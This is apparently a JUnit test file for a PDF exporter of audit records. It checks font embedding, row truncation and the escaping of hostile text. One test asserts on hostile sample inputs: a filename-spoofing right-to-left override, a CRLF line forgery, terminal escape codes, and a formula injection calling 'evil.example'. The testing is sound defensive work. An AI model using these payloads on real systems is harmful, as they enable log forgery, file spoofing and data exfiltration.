package dev.revo.engine.tenancy.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIOException;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.revo.audit.AuditRecord;
import dev.revo.audit.AuditRecord.Result;
import dev.revo.error.InvalidRequestException;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;

final class PdfExporterTest {
    private static String read(byte[] pdf) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            return new PDFTextStripper().getText(document);
        }
    }

    private static String joined(String text) {
        return text.replaceAll("\\s", "");
    }

    private static List<AuditRecord> many(int rows) {
        List<AuditRecord> records = new ArrayList<>();
        for (int i = 1; i <= rows; i++) {
            records.add(Records.record(i, "memory:read", "thing-" + i, Result.DONE));
        }
        return records;
    }

    @Test
    void attack26_hostile_texts_are_shown_and_invisible_ones_as_their_code() throws IOException {
        String text = joined(read(Records.written(AuditExporters.pdf(1_000), Records.hostile())));
        assertThat(text)
                .contains("txt\\u202eexe.gpj")
                .contains("a\\u000d\\u000aforged,line")
                .contains("nul\\u0000bell\\u0007esc\\u001b[2J")
                .contains("\\u4e2d\\u6587\\u5b57\\u7b26\\u{1f600}")
                .contains("\\u200b=1")
                .contains("lone\ufffdhalf".replace("\ufffd", text.contains("\ufffd") ? "\ufffd" : "\\ufffd"))
                .contains("(1048576characters)")
                .contains("=HYPERLINK(\"http://evil.example/?\"")
                .contains(Records.HOSTILE.size() + "rows,allthatwereaskedfor.")
                .contains("cannotbeverified")
                .doesNotContain(Records.RLO);
    }

    /** Without our escaping the font of every PDF reader would stop the export at the first Chinese character. */
    @Test
    void attack26_control_a_plain_font_throws_at_what_it_has_not() {
        PDFont plain = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
        assertThatIllegalArgumentException().isThrownBy(() -> plain.encode("\u4e2d"));
    }

    @Test
    void letters_of_the_font_are_shown_and_it_is_embedded() throws IOException {
        String words = "\u00dcber\u00c7a \u0395\u03bb\u03bb\u03ac\u03b4\u03b1 \u0420\u043e\u0441\u0441 back\\slash";
        byte[] pdf = Records.written(
                AuditExporters.pdf(10), Records.chain(List.of(Records.record(1, "a:b", words, Result.DENIED))));
        assertThat(joined(read(pdf)))
                .contains(joined(words).replace("\\", "\\\\"))
                .contains("DENIED")
                .contains("ada(SERVICE)");
        try (PDDocument document = Loader.loadPDF(pdf)) {
            for (COSName name : document.getPage(0).getResources().getFontNames()) {
                assertThat(document.getPage(0).getResources().getFont(name).isEmbedded())
                        .isTrue();
            }
        }
    }

    @Test
    void rows_above_the_bound_are_left_out_and_it_says_so() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        AuditExporter.Written written =
                AuditExporters.pdf(150).write(Records.chain(many(200)).iterator(), out);
        assertThat(written).isEqualTo(new AuditExporter.Written(150, true));
        String text = read(out.toByteArray());
        assertThat(text)
                .contains("Cut after 150 rows")
                .contains("thing-150")
                .doesNotContain("thing-151")
                .contains("page 2");
        try (PDDocument document = Loader.loadPDF(out.toByteArray())) {
            assertThat(document.getNumberOfPages()).isGreaterThan(1);
        }
        AuditExporter.Written all =
                AuditExporters.pdf(200).write(Records.chain(many(200)).iterator(), new ByteArrayOutputStream());
        assertThat(all).isEqualTo(new AuditExporter.Written(200, false));
    }

    @Test
    void takes_a_font_of_the_hosts_and_refuses_what_is_none() throws IOException {
        byte[] own;
        try (var in =
                PDDocument.class.getResourceAsStream("/org/apache/pdfbox/resources/ttf/LiberationSans-Regular.ttf")) {
            own = in.readAllBytes();
        }
        AuditExporter exporter = AuditExporters.pdf(10, new ByteArrayInputStream(own));
        assertThat(exporter.mediaType()).isEqualTo("application/pdf");
        assertThat(read(Records.written(exporter, Records.chain(many(1))))).contains("thing-1");
        AuditExporter none = AuditExporters.pdf(10, new ByteArrayInputStream(new byte[] {1, 2, 3}));
        assertThatIOException()
                .isThrownBy(() -> none.write(Records.chain(many(1)).iterator(), new ByteArrayOutputStream()));
        assertThatThrownBy(() -> AuditExporters.pdf(0)).isInstanceOf(InvalidRequestException.class);
        assertThatThrownBy(() -> AuditExporters.pdf(50_001)).isInstanceOf(InvalidRequestException.class);
    }
}
